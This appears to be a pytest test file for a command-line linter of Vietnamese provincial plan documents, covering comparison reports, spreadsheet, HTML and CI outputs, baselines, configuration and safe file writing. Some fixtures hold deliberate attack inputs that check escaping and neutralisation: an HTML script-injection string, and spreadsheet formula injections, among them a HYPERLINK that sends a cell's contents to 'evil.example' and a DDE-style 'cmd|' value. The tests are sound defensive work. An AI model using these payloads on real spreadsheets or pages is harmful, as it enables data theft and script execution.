"""Follow-up and CI outputs, baselines, configuration, jobs and compare - on the shared seeds."""

import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from click.testing import CliRunner

from plancheck.cli import main

from .conftest import ROOT, SAMPLES


def invoke(*args, columns: int | None = None):
    env = {"COLUMNS": str(columns)} if columns else None  # the terminal's width, for the text tables
    return CliRunner(env=env).invoke(main, [str(a) for a in args], catch_exceptions=False)


# ---------------------------------------------------------------- compare


def test_compare_plan_against_programme(seeds):
    r = invoke("compare", seeds / "tay-ninh-plan.txt", seeds / "tay-ninh-party-programme.txt", "--format", "json")
    assert r.exit_code == 1
    doc = json.loads(r.output)
    rows = {(d["indicator"], d["year"]): d for d in doc["discrepancies"]}
    plan, prog = "tay-ninh-plan.txt", "tay-ninh-party-programme.txt"
    for iid, a, b in [("hospital_beds", "35", "32"), ("doctors", "19", "11"), ("nurses", "33", "25"),
                      ("primary_care_health_insurance", "> 95", "Trên 70%")]:
        row = rows[(iid, 2030)]
        assert row["status"] == "different" and row["values"] == {plan: a, prog: b}
        assert row["more_ambitious"] == [plan]
        assert {"indicator", "row_name", "year", "values", "status"} <= set(row)
    assert rows[("social_housing_units", 2030)]["status"] == "same"
    assert rows[("social_insurance", 2030)]["status"] == "same"
    assert rows[("unemployment", 2030)]["status"] == "missing"


def test_compare_summary_counts_what_is_shown_and_states_the_total(seeds):
    pair = (seeds / "tay-ninh-plan.txt", seeds / "tay-ninh-party-programme.txt")
    default = invoke("compare", *pair, "--lang", "en", columns=250).output.splitlines()
    assert default[-2:] == ["5 of 151 indicator-years shown (--status different: differing between the documents "
                            "that state them); --status all shows the other 146",
                            "Compared: 5 different, 120 missing from some document (and not different in the others), "
                            "26 same"]
    assert sum(" different " in line for line in default[:-2]) == 5  # by default: the indicator-years that differ
    assert invoke("compare", *pair, "--status", "different", "--lang", "en", columns=250).output.splitlines() == default
    every = invoke("compare", *pair, "--status", "all", "--lang", "en", columns=250).output.splitlines()
    assert every[-2] == "151 of 151 indicator-years shown" and every[-1] == default[-1]
    vi = invoke("compare", *pair, "--status", "missing", columns=250).output
    assert vi.splitlines()[-2].startswith("Hiển thị 120 trên tổng số 151 chỉ tiêu-năm được so sánh (--status missing: "
                                          "có văn bản không nêu, kể cả chỉ tiêu khác nhau)")
    assert sum(line.rstrip().endswith("không nêu") for line in vi.splitlines()) >= 120 and "thiếu" not in vi
    js = json.loads(invoke("compare", *pair, "--format", "json", "--status", "different").output)
    assert js["summary"] == {"same": 26, "different": 5, "missing": 120, "total": 151, "shown": 5,
                             "different_and_missing": 0, "shown_statuses": ["different"]}
    assert [(i["name"], i["province"], i["number"]) for i in js["document_info"]] == [
        ("tay-ninh-plan.txt", "Tây Ninh", "2860/KH-UBND"), ("tay-ninh-party-programme.txt", "Tây Ninh", None)]
    # two documents of one province: each is labelled by its file
    assert [i["label"] for i in js["document_info"]] == ["tay-ninh-plan.txt", "tay-ninh-party-programme.txt"]


def test_compare_with_national_and_formats(seeds, tmp_path):
    r = invoke("compare", seeds / "khanh-hoa-plan.txt", "--national", "--format", "csv", "--status", "all",
               "--lang", "en")
    assert r.output.splitlines()[0] == ("Indicator,Year,Khánh Hòa (khanh-hoa-plan.txt),national,Status,Not stated in,"
                                        "More ambitious")
    r = invoke("compare", seeds / "khanh-hoa-plan.txt", "--national", "--format", "csv")
    assert r.output.splitlines()[0] == ("Chỉ tiêu,Năm,Khánh Hòa (khanh-hoa-plan.txt),national,Trạng thái,"
                                        "Văn bản không nêu,Văn bản có mức phấn đấu cao hơn")
    written = tmp_path / "cmp.csv"
    invoke("compare", seeds / "khanh-hoa-plan.txt", "--national", "--format", "csv", "-o", written)
    assert written.read_bytes().startswith("\ufeffChỉ tiêu,Năm,".encode("utf-8"))  # a BOM for Excel, in a file only
    assert not r.output.startswith("\ufeff")
    out = tmp_path / "cmp.xlsx"
    invoke("compare", seeds / "tay-ninh-plan.txt", seeds / "tay-ninh-party-programme.txt", "--format", "xlsx",
           "-o", out)
    from openpyxl import load_workbook

    ws = load_workbook(out).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][:2] == ["Chỉ tiêu", "Năm"]  # indicator names, not internal ids
    assert any(v[0] == "Số bác sĩ trên 10.000 dân" and v[2] == "19" and v[3] == "11" and v[4] == "khác nhau"
               for v in values[1:])


# ---------------------------------------------------------------- follow-up outputs


def test_workbook_for_follow_up(seeds, tmp_path):
    out = tmp_path / "followup.xlsx"
    r = invoke("lint", seeds, "--format", "xlsx", "-o", out, "--fail-on", "never")
    assert r.exit_code == 0
    from openpyxl import load_workbook

    wb = load_workbook(out)
    summary = wb.worksheets[0]
    assert summary.title == "Tổng hợp"
    top = int(summary.print_title_rows.split(":")[0].replace("$", ""))  # the table's header row
    head = [c.value for c in summary[top]]
    assert head[:8] == ["Tỉnh", "Trang tính", "Văn bản (tệp, số, ngày)", "Trạng thái", "Tổng số", "Lỗi", "Cảnh báo",
                        "Thông tin"]
    provinces = {summary.cell(r, 1).value: summary.cell(r, 5).value for r in range(top + 1, summary.max_row + 1)}
    # 6: legal aid "99" in 2030 is below the annex's 100 (B001, since the national suite has that value)
    assert provinces["Khánh Hòa"] == 6
    sheet = wb["Khánh Hòa"]
    top = int(sheet.print_title_rows.split(":")[0].replace("$", ""))
    assert "khanh-hoa-plan.txt" in sheet["A2"].value
    cols = [c.value for c in sheet[top]]
    assert cols == ["Vị trí", "TT", "Chỉ tiêu (như ghi trong văn bản)", "Chỉ tiêu (theo bộ chỉ tiêu)", "Năm",
                    "Giá trị ghi trong văn bản", "Mức độ", "Nhóm", "Mã quy tắc", "Lý do", "Đề xuất sửa",
                    "Ý kiến giải trình của tỉnh"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=top + 1)]
    typo = next(r for r in rows if r[8] == "Y001")
    assert typo[0] == 547 and typo[5] == "> 975" and typo[10] == "> 97,5" and typo[11] is None
    # the indicator by the suite's name, never its internal id
    assert typo[3] == "Tỷ lệ đi học đúng tuổi cấp trung học cơ sở"
    spelled = next(r for r in rows if r[8] == "X002")
    assert spelled[3].startswith("Tỷ lệ số tỉnh hoàn thành phổ cập giáo dục mầm non")
    assert not any("_" in (r[3] or "") for r in rows)
    assert sheet.freeze_panes == f"A{top + 1}" and sheet.auto_filter.ref
    assert sheet.column_dimensions["C"].width >= 30
    r = invoke("lint", seeds, "--format", "xlsx", "-o", out, "--lang", "en", "--fail-on", "never")
    assert load_workbook(out).worksheets[0].title == "Summary"


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.rows, self.external, self._row, self._in_td = [], [], [], None, False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        a = dict(attrs)
        if tag in ("script", "link", "img") and (a.get("src") or a.get("href")):
            self.external.append(a)
        if tag == "tr" and "data-sev" in a:
            self._row = []
            self.rows.append(self._row)
        if tag == "td":
            self._in_td = True
            if self._row is not None:
                self._row.append("")

    def handle_endtag(self, tag):
        if tag == "td":
            self._in_td = False

    def handle_data(self, data):
        if self._in_td and self._row is not None and self._row:
            self._row[-1] += data


def test_html_report_self_contained_and_escaped(seeds, tmp_path):
    evil = tmp_path / "evil.txt"
    evil.write_text("Số: 1/KH-UBND\nHà Giang, ngày 1 tháng 8 năm 2024\nKẾ HOẠCH\n"
                    "TT\tChỉ tiêu\tĐơn vị\tĐến năm 2025\tĐến năm 2030\n"
                    "1\t<script>alert(1)</script> Tỷ lệ thất nghiệp chung\t%\t< 3\t<b>x</b>\n", encoding="utf-8")
    out = tmp_path / "r.html"
    invoke("lint", seeds, evil, "--format", "html", "-o", out, "--fail-on", "never")
    text = out.read_text(encoding="utf-8")
    p = _Collect()
    p.feed(text)
    assert p.external == []  # nothing fetched from the network
    assert "svg" in p.tags and "table" in p.tags
    assert p.tags.count("script") == 1  # only plancheck's own sorting/filtering script
    assert "<script>alert" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert any(r[1] == "547" and r[5] == "> 975" for r in p.rows)


# ---------------------------------------------------------------- CI outputs


def test_sarif_is_valid(seeds):
    import os

    import jsonschema

    schema = json.loads((Path(__file__).parent / "data" / "sarif-2.1.0-plancheck.schema.json").read_text(
        encoding="utf-8"))
    r = invoke("lint", seeds, SAMPLES, "--format", "sarif", "--fail-on", "never")
    sarif = json.loads(r.output)
    jsonschema.validate(sarif, schema)
    if os.environ.get("SARIF_SCHEMA"):  # the official OASIS schema, when the environment has it
        jsonschema.validate(sarif, json.loads(Path(os.environ["SARIF_SCHEMA"]).read_text(encoding="utf-8")))
    bad = json.loads(r.output)
    bad["runs"][0]["results"][0]["level"] = "fatal"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema)
    run = sarif["runs"][0]
    ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    res = run["results"]
    assert res and all(x["ruleId"] == ids[x["ruleIndex"]] for x in res)
    assert {x["level"] for x in res} <= {"error", "warning", "note"}
    fps = [x["partialFingerprints"]["plancheck/v1"] for x in res]
    assert len(set(fps)) == len(fps)
    typo = next(x for x in res if x["ruleId"] == "Y001"
                and x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].endswith("khanh-hoa-plan.txt"))
    assert typo["locations"][0]["physicalLocation"]["region"]["startLine"] == 547


def test_github_annotations(seeds):
    r = invoke("lint", seeds / "khanh-hoa-plan.txt", "--format", "github", "--lang", "en")
    lines = r.output.splitlines()
    assert any(l.startswith("::error file=") and ",line=547," in l and "97,5" in l for l in lines)
    assert any(l.startswith("::notice ") for l in lines)


def test_baseline_hides_known_findings_and_survives_line_shifts(seeds, tmp_path):
    plan = tmp_path / "khanh-hoa-plan.txt"
    plan.write_bytes((seeds / "khanh-hoa-plan.txt").read_bytes())
    base = tmp_path / "baseline.json"
    r = invoke("lint", plan, "--write-baseline", base)
    assert r.exit_code == 1 and base.exists()
    assert invoke("lint", plan, "--baseline", base).exit_code == 0
    # an unrelated edit shifts every line: the known findings stay hidden
    plan.write_text("\n\n\n" + (seeds / "khanh-hoa-plan.txt").read_text(encoding="utf-8"), encoding="utf-8")
    r = invoke("lint", plan, "--baseline", base, "--format", "json")
    assert r.exit_code == 0 and json.loads(r.output)["findings"] == []
    # a new error is reported
    text = plan.read_text(encoding="utf-8").replace("< 7,5", "> 7,5")
    plan.write_text(text, encoding="utf-8")
    r = invoke("lint", plan, "--baseline", base, "--format", "json")
    assert r.exit_code == 1 and [f["rule"] for f in json.loads(r.output)["findings"]] == ["Y001"]


# ---------------------------------------------------------------- configuration


def test_config_file(tmp_path, monkeypatch):
    plan = tmp_path / "data" / "plan.csv"
    plan.parent.mkdir()
    plan.write_bytes((SAMPLES / "binh-phuoc-2025.csv").read_bytes())
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "x"\n\n[tool.plancheck]\nignore = ["T*"]\nfail-on = "never"\n\n'
        '[tool.plancheck.severity]\nB002 = "info"\n\n[tool.plancheck.per-path-ignores]\n"data/*.csv" = ["U*"]\n',
        encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    r = invoke("lint", "data", "--format", "json")
    assert r.exit_code == 0
    found = {f["rule"]: f for f in json.loads(r.output)["findings"]}
    assert not any(k.startswith(("T", "U")) for k in found)
    assert found["B002"]["severity"] == "info"


def test_config_unknown_key_is_an_error(tmp_path, monkeypatch):
    (tmp_path / "plancheck.toml").write_text('fail-on = "error"\ncolour = "red"\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    p = subprocess.run([sys.executable, "-m", "plancheck", "lint", str(SAMPLES / "clean-province-2025.csv"), "--lang",
                        "en"], capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert p.returncode == 2 and "unknown key 'colour'" in p.stderr and "plancheck.toml" in p.stderr


# ---------------------------------------------------------------- repositories


def test_jobs_give_the_same_output(seeds):
    one = invoke("lint", seeds, SAMPLES, "--format", "json", "--jobs", "1", "--fail-on", "never").output
    two = invoke("lint", seeds, SAMPLES, "--format", "json", "--jobs", "2", "--fail-on", "never").output
    assert one == two and json.loads(one)["findings"]


def test_long_runs_are_checked_in_chunks_with_the_same_output(seeds, monkeypatch):
    """A long run is checked a chunk of files at a time (bounded memory): same findings."""
    from plancheck import engine

    whole = invoke("lint", seeds, SAMPLES, "--format", "json", "--fail-on", "never").output
    monkeypatch.setattr(engine, "CHUNK_FILES", 2)
    chunks = []
    isolated = engine._isolated_chunks  # the CLI checks its chunks in a worker process
    monkeypatch.setattr(engine, "_isolated_chunks",
                        lambda parts, options, progress=None: chunks.extend(parts) or isolated(parts, options, progress))
    chunked = invoke("lint", seeds, SAMPLES, "--format", "json", "--fail-on", "never").output
    assert len(chunks) > 3 and all(len(c) <= 2 for c in chunks)
    assert chunked == whole and json.loads(whole)["findings"]
    # the progress bar still moves file by file
    steps = []
    files = engine.expand_paths([seeds, SAMPLES])
    engine.run([seeds, SAMPLES], engine.Options(), progress=steps.append)
    assert steps == [1] * len(files)


def test_include_exclude(seeds):
    r = invoke("lint", SAMPLES, "--exclude", "*.csv", "--exclude", "*.xlsx", "--format", "json", "--fail-on", "never")
    paths = {Path(f["path"]).suffix for f in json.loads(r.output)["files"]}
    assert paths == {".docx", ".txt", ".md"}


def test_html_renders_in_headless_chromium(seeds, tmp_path):
    import shutil

    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not browser:
        pytest.skip("headless Chromium is not installed (apt-get install chromium)")
    out = tmp_path / "r.html"
    invoke("lint", seeds, "--format", "html", "-o", out, "--fail-on", "never")
    p = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                        "--disable-component-update", "--disable-sync", "--no-first-run",
                        f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", out.as_uri()],
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr[-2000:]
    # the page's script ran: the count of visible findings was written by it
    total = json.loads(invoke("lint", seeds, "--format", "json", "--fail-on", "never").output)["summary"]["total"]
    assert f'id="count">{total}<' in p.stdout and "khanh-hoa-plan.txt" in p.stdout


# ---------------------------------------------------------------- pre-commit


def _hook_selects(path: str) -> bool:
    """Whether pre-commit gives ``path`` to the hook: ``files`` and ``exclude`` are searched
    (``re.search``) in the repository-relative path, as pre-commit does."""
    import re

    import yaml

    hook = yaml.safe_load((Path(__file__).parent.parent / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
    return bool(re.search(hook["files"], path)) and not re.search(hook["exclude"], path)


@pytest.mark.parametrize("path", ["plans/tay-ninh-plan.txt", "ke-hoach/2024/kh-2860.docx", "plans/binh-phuoc.csv",
                                  "quang-tri-2025.xlsx", "submissions/ha-giang.json", "plans/ha-giang.yaml",
                                  "plans/ha-giang.md", "plans/ha-giang.pdf", "plans/ha-giang.doc", "plans/HA-GIANG.PDF"])
def test_pre_commit_hook_takes_plan_files(path):
    assert _hook_selects(path)


@pytest.mark.parametrize("path", [".pre-commit-config.yaml", "plancheck-baseline.json", "ci/plans-baseline.json",
                                  ".github/workflows/plans.yml", ".gitlab-ci.yml", "README.md", "docs/README.md",
                                  "pyproject.toml", "plancheck.toml", "requirements.txt", "package.json",
                                  "mkdocs.yml"])
def test_pre_commit_hook_leaves_other_files_alone(path):
    assert not _hook_selects(path)


def test_baseline_written_by_plancheck_is_not_a_plan(tmp_path):
    """The file --write-baseline writes is excluded by the hook's pattern, whatever folder it is in."""
    out = tmp_path / "plancheck-baseline.json"
    invoke("lint", SAMPLES / "binh-phuoc-2025.csv", "--write-baseline", out, "--fail-on", "never")
    assert out.exists() and not _hook_selects(f"plans/{out.name}")
# ---------------------------------------------------------------- outputs that cannot damage


def run_cli(*args, **kw):
    import os

    from .conftest import ROOT

    if args and args[0] in ("lint", "compare", "export") and "--lang" not in args:
        args = (*args, "--lang", "en")  # messages checked in English here
    return subprocess.run([sys.executable, "-m", "plancheck", *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120, **kw)


GOOD = SAMPLES / "binh-phuoc-2025.csv"


def test_output_onto_a_character_device_writes_in_place(tmp_path):
    """``--output /dev/null`` works and leaves the device a device, as root too. As root the
    test makes its own null device (a failure must not replace the machine's /dev/null)."""
    import os
    import stat

    if os.geteuid() == 0:
        null = tmp_path / "null"
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    else:
        null = Path("/dev/null")
    for args in (["lint", GOOD, "--format", "json"], ["lint", GOOD, "--write-baseline"],
                 ["compare", SAMPLES / "clean-province-2025.csv", GOOD, "--format", "csv"],
                 ["export", "--to", "pandera"]):
        p = run_cli(*args, str(null)) if args[-1] == "--write-baseline" else run_cli(*args, "-o", null)
        assert p.returncode in (0, 1), p.stderr
        assert stat.S_ISCHR(os.stat(null).st_mode)
    if null.parent == tmp_path:
        assert [x.name for x in tmp_path.iterdir()] == ["null"]  # nothing created beside it


def test_output_into_a_fifo(tmp_path):
    import os
    import stat
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(open(fifo, "rb").read()))
    reader.start()
    p = run_cli("lint", GOOD, "--format", "json", "-o", fifo)
    reader.join(30)
    assert p.returncode == 1 and json.loads(got[0])["findings"]
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_output_never_onto_a_file_being_linted(tmp_path):
    import os

    folder = tmp_path / "plans"
    folder.mkdir()
    plan = folder / "plan.csv"
    plan.write_bytes(GOOD.read_bytes())
    os.link(plan, tmp_path / "hard-link.csv")
    (tmp_path / "sym-link.csv").symlink_to(plan)
    for target in (plan, tmp_path / "hard-link.csv", tmp_path / "sym-link.csv"):
        for args in (["-o", target], ["--write-baseline", target]):
            p = run_cli("lint", folder, "--format", "json", *args)
            assert p.returncode == 2 and "refusing to write" in p.stderr and "onto an input file" in p.stderr
            assert plan.read_bytes() == GOOD.read_bytes()
    p = run_cli("compare", plan, SAMPLES / "clean-province-2025.csv", "-o", tmp_path / "hard-link.csv")
    assert p.returncode == 2 and "onto an input file" in p.stderr and plan.read_bytes() == GOOD.read_bytes()
    suite = tmp_path / "suite.yaml"
    suite.write_bytes((Path(__file__).parent.parent / "plancheck" / "suites" / "national.yaml").read_bytes())
    p = run_cli("export", "--to", "pandera", suite, "-o", suite)
    assert p.returncode == 2 and "onto an input file" in p.stderr


def test_new_outputs_follow_the_umask_and_existing_ones_keep_their_mode(tmp_path):
    import os

    for umask, mode in ((0o022, 0o644), (0o077, 0o600), (0o002, 0o664)):
        out = tmp_path / f"report-{umask:o}.json"
        p = run_cli("lint", GOOD, "--format", "json", "-o", out, preexec_fn=lambda u=umask: os.umask(u))
        assert p.returncode == 1 and os.stat(out).st_mode & 0o777 == mode
    out = tmp_path / "shared.json"
    out.write_text("old", encoding="utf-8")
    os.chmod(out, 0o640)
    p = run_cli("lint", GOOD, "--format", "json", "-o", out)
    assert p.returncode == 1 and os.stat(out).st_mode & 0o777 == 0o640 and json.loads(out.read_text("utf-8"))


def test_read_only_target_is_refused(tmp_path):
    """Even for root, who could replace it."""
    import os

    out = tmp_path / "signed-off.xlsx"
    out.write_bytes(b"the approved copy")
    os.chmod(out, 0o444)
    for args in (["lint", GOOD, "--format", "xlsx", "-o", out], ["lint", GOOD, "--write-baseline", out],
                 ["export", "--to", "gx", "-o", out]):
        p = run_cli(*args)
        assert p.returncode == 2 and "read-only" in p.stderr, p.stderr
        assert out.read_bytes() == b"the approved copy" and os.stat(out).st_mode & 0o777 == 0o444
    assert sorted(x.name for x in tmp_path.iterdir()) == ["signed-off.xlsx"]


def test_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    import os

    from plancheck import outputs

    out = tmp_path / "report.json"
    out.write_text("old", encoding="utf-8")

    def interrupted(*_):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        outputs.write_output(str(out), "new", ())
    assert out.read_text(encoding="utf-8") == "old" and [x.name for x in tmp_path.iterdir()] == ["report.json"]


def test_output_onto_a_folder_or_a_socket_is_refused(tmp_path):
    import socket

    p = run_cli("lint", GOOD, "-o", tmp_path)
    assert p.returncode == 2 and "is a directory" in p.stderr
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "s"))
    try:
        p = run_cli("lint", GOOD, "-o", tmp_path / "s")
        assert p.returncode == 2 and "is a socket" in p.stderr
    finally:
        sock.close()


# ---------------------------------------------------------------- spreadsheet-safe text

EVIL = ('name,unit,2025,2030\n'
        'Tỷ lệ thất nghiệp chung,%,"=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")",- \n'
        '@SUM(1+1)*cmd|x,%,-5,+ Chấm dứt tình trạng thiếu việc làm\n'
        'Tỷ lệ lao động qua đào tạo,%,\t=1+1,\r=2+2\n')
FORMULA_TEXT = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|x", "-5",
                "+ Chấm dứt tình trạng thiếu việc làm")


def test_workbook_text_never_becomes_a_formula(tmp_path):
    import zipfile

    from openpyxl import load_workbook

    plan = tmp_path / "evil.csv"
    plan.write_text(EVIL, encoding="utf-8")
    out = tmp_path / "followup.xlsx"
    run_cli("lint", plan, "--format", "xlsx", "-o", out)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets)  # no formula anywhere
    sheet = load_workbook(out)["evil"]
    top = int(sheet.print_title_rows.split(":")[0].replace("$", ""))  # the table's header row
    cells = {c.value: c for row in sheet.iter_rows(min_row=top + 1) for c in row if isinstance(c.value, str)}
    for text in FORMULA_TEXT:  # exactly as written, readable, a text cell marked as text
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    numbers = [c.value for row in sheet.iter_rows(min_row=top + 1) for c in row[:1]]
    assert numbers and all(isinstance(n, int) for n in numbers)  # line numbers stay numbers
    assert isinstance(sheet.cell(top + 1, 5).value, int)  # and so do years


def test_compare_workbook_keeps_no_target_readable(tmp_path):
    from openpyxl import load_workbook

    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    a.write_text("name,unit,2025,2030\nTỷ lệ thất nghiệp chung,%,- ,=1+1\n", encoding="utf-8")
    b.write_text("name,unit,2025,2030\nTỷ lệ thất nghiệp chung,%,< 3,< 3\n", encoding="utf-8")
    out = tmp_path / "cmp.xlsx"
    run_cli("compare", a, b, "--format", "xlsx", "-o", out)
    values = {c.value: c for row in load_workbook(out).active.iter_rows(min_row=2) for c in row}
    assert values["=1+1"].data_type == "s" and values["=1+1"].quotePrefix
    assert 2030 in values and values[2030].data_type == "n"


def test_csv_text_gets_an_apostrophe_numbers_do_not(tmp_path):
    import csv
    import io

    plan = tmp_path / "evil.csv"
    plan.write_text(EVIL, encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(run_cli("lint", plan, "--format", "csv").stdout)))
    values = {r["Value as written"] for r in rows} | {r["Indicator (as written)"] for r in rows}
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")" in values
    assert "'@SUM(1+1)*cmd|x" in values and "'+ Chấm dứt tình trạng thiếu việc làm" in values
    assert "-5" in values  # a number is left as it is
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
    assert all(r["Line"].isdigit() and r["Year"].isdigit() for r in rows if r["Year"])
    p = run_cli("compare", plan, GOOD, "--format", "csv", "--status", "all")
    cells = [c for row in csv.reader(io.StringIO(p.stdout)) for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("text", ["-", "- ", "+ Chấm dứt tình trạng nhà tạm", "=1+1", "@A1", "\t=1", "\r=1"])
def test_no_target_and_other_formula_like_values_stay_readable(text):
    """'-' (no target) and '+ Chấm dứt...' are real values: kept readable, never a formula."""
    from openpyxl import Workbook

    from plancheck.reporters.cells import append_row, csv_cell

    assert csv_cell(text) == "'" + text
    ws = Workbook().active
    append_row(ws, [text, 2030, "11.900"])
    cell = ws.cell(1, 1)
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(1, 2).data_type == "n" and not ws.cell(1, 3).quotePrefix
    assert [csv_cell(v) for v in ("-5", "+3", "-1,5", "11.900", "> 975", 2030)] == ["-5", "+3", "-1,5", "11.900",
                                                                                     "> 975", 2030]


# ---------------------------------------------------------------- the text table


_LINE = st.text(alphabet="abc xyzĐđàáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹ0123456789%<>-.,",
                min_size=1, max_size=20).map(str.strip).filter(bool)
# as reporters._wrap gives, or a year
_CELL = st.one_of(st.just(""), st.lists(_LINE, min_size=1, max_size=3).map("\n".join), st.integers(2020, 2035))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.integers(1, 8).flatmap(lambda n: st.tuples(
    st.lists(_LINE, min_size=n, max_size=n), st.lists(st.lists(_CELL, min_size=n, max_size=n), min_size=1, max_size=5))))
def test_the_text_table_is_tabulates_simple_format(table):
    """lint's text report draws its tables itself (importing tabulate costs 6 % of a one-plan
    run): the same text as tabulate's "simple" format, for Vietnamese text (NFC, as readers
    give it), years and cells of several lines."""
    from tabulate import tabulate

    from plancheck.reporters.table import simple_table

    headers, rows = table
    assert simple_table(rows, headers) == tabulate(rows, headers=headers, tablefmt="simple", disable_numparse=True)


def test_the_text_table_gives_a_wide_character_two_columns():
    """A wide (CJK) character takes two columns on a terminal, a combining mark none, as
    tabulate counts them when wcwidth is installed (without it, tabulate counts characters)."""
    from plancheck.reporters.table import simple_table, width

    assert width("漢") == 2 and width("e\u0301") == 1 and width("Tỷ lệ") == 5
    assert simple_table([["漢", "x"]], ["A", "B"]).splitlines() == ["A    B", "---  ---", "漢   x"]
